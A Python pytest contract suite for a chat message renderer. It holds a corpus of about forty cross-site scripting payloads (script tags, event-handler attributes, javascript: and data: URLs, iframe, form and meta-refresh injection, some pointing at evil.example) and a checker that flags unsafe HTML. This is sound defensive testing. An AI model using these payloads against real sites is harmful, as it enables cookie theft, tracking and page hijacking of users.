"""Contract suite for ``MessageRenderer``: the basics and a corpus of hostile chat bodies.

``HOSTILE_BODIES`` is importable on its own (the end-to-end test sends it through a real
server). ``inert`` is the check every rendered user body must pass.
"""

from __future__ import annotations

import re

import pytest

from owncast_core.ports.render import MessageRenderer

HOSTILE_BODIES: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="/img/emoji/ok.png" onerror="alert(1)">',
    '<img src="/img/emoji/../../api/admin/x.png">',
    '<img src="https://evil.example/track.png">',
    "![tracker](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "[click me](javascript:alert(document.cookie))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    "<svg onload=alert(1)><circle/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example/x.swf></object><embed src=x>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=p><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<details open ontoggle=alert(1)>",
    "**bold <em onmouseover=alert(1)>em</em>**",
    "`<script>alert(1)</script>`",
    "```\n<img src=x onerror=alert(1)>\n```",
    "> <script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<a href="https://ok.example" target="_self" rel="opener">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>script>alert(1)<</script>/script>",
    '<img src="/img/emoji/a.png" class="x emoji" alt="<script>">',
    "\u202e<script>alert(1)</script>",
    '[link](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
)

_ALLOWED_TAGS = {"p", "br", "strong", "em", "code", "pre", "a", "img"}
_TAG = re.compile(r"<\s*(/?)\s*([a-zA-Z][a-zA-Z0-9-]*)([^>]*)>")
_ATTR = re.compile(r"""([a-zA-Z_:][-a-zA-Z0-9_:.]*)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)""")


def inert(html: str) -> list[str]:
    """Why ``html`` is not safe to insert into a page ([] when it is)."""
    problems = []
    for _closing, name, attrs in _TAG.findall(html):
        tag = name.lower()
        if tag not in _ALLOWED_TAGS:
            problems.append(f"element <{tag}>")
            continue
        for attr, raw in _ATTR.findall(attrs):
            key, value = attr.lower(), raw.strip("\"'")
            if key.startswith("on") or key in ("style", "srcdoc", "formaction"):
                problems.append(f"attribute {key} on <{tag}>")
            if key in ("href", "src"):
                compact = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                if compact.startswith(("javascript:", "data:", "vbscript:")) or "&#" in compact:
                    problems.append(f"{key}={value!r}")
            if tag == "img" and key == "src" and (not value.startswith("/img/emoji/") or ".." in value):
                problems.append(f"img src {value!r}")
    return problems


class MessageRendererContract:
    """Bindings provide a ``renderer`` fixture."""

    @pytest.fixture
    def renderer(self) -> MessageRenderer:  # pragma: no cover - bindings override
        raise NotImplementedError

    def test_plain_text_becomes_a_paragraph(self, renderer: MessageRenderer) -> None:
        assert renderer.render_user("hello") == "<p>hello</p>"
        assert renderer.render_user("  hello  ") == "<p>hello</p>"

    def test_blank_input_renders_empty(self, renderer: MessageRenderer) -> None:
        for text in ("", "   ", "\n\t"):
            assert renderer.render_user(text) == ""
            assert renderer.render_trusted(text) == ""

    def test_trusted_text_is_rendered(self, renderer: MessageRenderer) -> None:
        assert renderer.render_trusted("The stream is ending.") == "<p>The stream is ending.</p>"

    @pytest.mark.parametrize("body", HOSTILE_BODIES)
    def test_hostile_bodies_come_out_inert(self, renderer: MessageRenderer, body: str) -> None:
        html = renderer.render_user(body)
        assert inert(html) == [], html

    def test_the_checker_catches_unsafe_html(self) -> None:
        assert inert('<p onclick="x()">a</p>')
        assert inert('<a href="javascript:alert(1)">a</a>')
        assert inert("<script>alert(1)</script>")
        assert inert('<img src="https://evil.example/x.png">')
        assert inert('<p>fine <a href="https://ok.example" rel="noreferrer">ok</a></p>') == []
